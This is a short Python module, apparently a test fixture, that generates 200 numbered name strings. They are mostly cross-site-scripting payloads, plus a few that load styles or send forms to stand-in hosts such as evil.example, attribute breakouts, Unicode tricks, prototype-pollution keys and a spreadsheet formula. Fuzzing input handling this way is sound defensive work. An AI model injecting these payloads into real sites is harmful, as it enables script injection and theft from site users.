"""Two hundred names that want to be more than names. Each may be one: short enough, with a letter, and none looks like another."""

SCRIPTS = (
    "<script>alert({n})</script>",
    "<img src=x onerror=alert({n})>",
    "<svg/onload=alert({n})>",
    "<svg><script>alert({n})</script>",
    "<body onload=alert({n})>",
    "<input autofocus onfocus=alert({n})>",
    "<details open ontoggle=alert({n})>",
    "<video src onerror=alert({n})>",
    "<iframe src=javascript:alert({n})>",
    "<a href=javascript:alert({n})>x{n}</a>",
    "<object data=javascript:alert({n})>",
    "<embed src=javascript:alert({n})>",
    "<math><mi xlink:href=javascript:a({n})>",
    "<style>@import'//evil.example/{n}'",
    "<link rel=stylesheet href=//evil/{n}>",
    "<base href=//evil.example/{n}>",
    "<meta http-equiv=refresh content=0;{n}>",
    "<form action=//evil/{n}><button>",
    "<template><img onerror=a({n})>",
    "<marquee onstart=alert({n})>",
    "javascript:alert({n})",
    "data:text/html,<script>alert({n})",
    "${{alert({n})}}",
    "{{{{constructor.alert({n})}}}}",
    "#{{alert({n})}}",
    "`${{alert({n})}}`",
    "'-alert({n})-'",
    '"-alert({n})-"',
    "\\u003cscript\\u003ealert({n})",
    "&lt;script&gt;alert({n})&lt;/script&gt;",
    "&#60;img src=x onerror=alert({n})&#62;",
    "--><script>alert({n})</script>",
    "]]><script>alert({n})</script>",
    "*/alert({n})/*",
    "</title><script>alert({n})</script>",
    "</textarea><script>alert({n})",
    "expression(alert({n}))",
    "url(javascript:alert({n}))",
    "<x:script>alert({n})</x:script>",
    "%3Cscript%3Ealert({n})%3C/script%3E",
)
ATTRIBUTES = (
    '"><svg onload=alert({n})>',
    "'><svg onload=alert({n})>",
    '" onmouseover="alert({n})',
    "' autofocus onfocus=alert({n}) '",
)
LETTERS = (
    "\u202egnp.{n}\u202c",
    "Z\u0351\u036b\u0343\u036a\u0302\u036balgo {n}",
    "\u200b\u200cTeam\u200d {n}\ufeff",
    "\ud83d\udc68\u200d\ud83d\udc69\u200d\ud83d\udc67".encode("utf-16", "surrogatepass").decode("utf-16") + "{n}",
    "\u0645\u0631\u062d\u0628\u0627 {n} \u05e9\u05dc\u05d5\u05dd",
    "\ufdfd{n}",
    "__proto__ {n}",
    "constructor {n}",
    "=HYPERLINK(A{n})",
    "null {n} undefined",
)


def names() -> list[str]:
    """All of them, numbered, so that each is another."""
    shapes = (*SCRIPTS, *ATTRIBUTES, *LETTERS)
    return [shapes[n % len(shapes)].format(n=n) for n in range(200)]
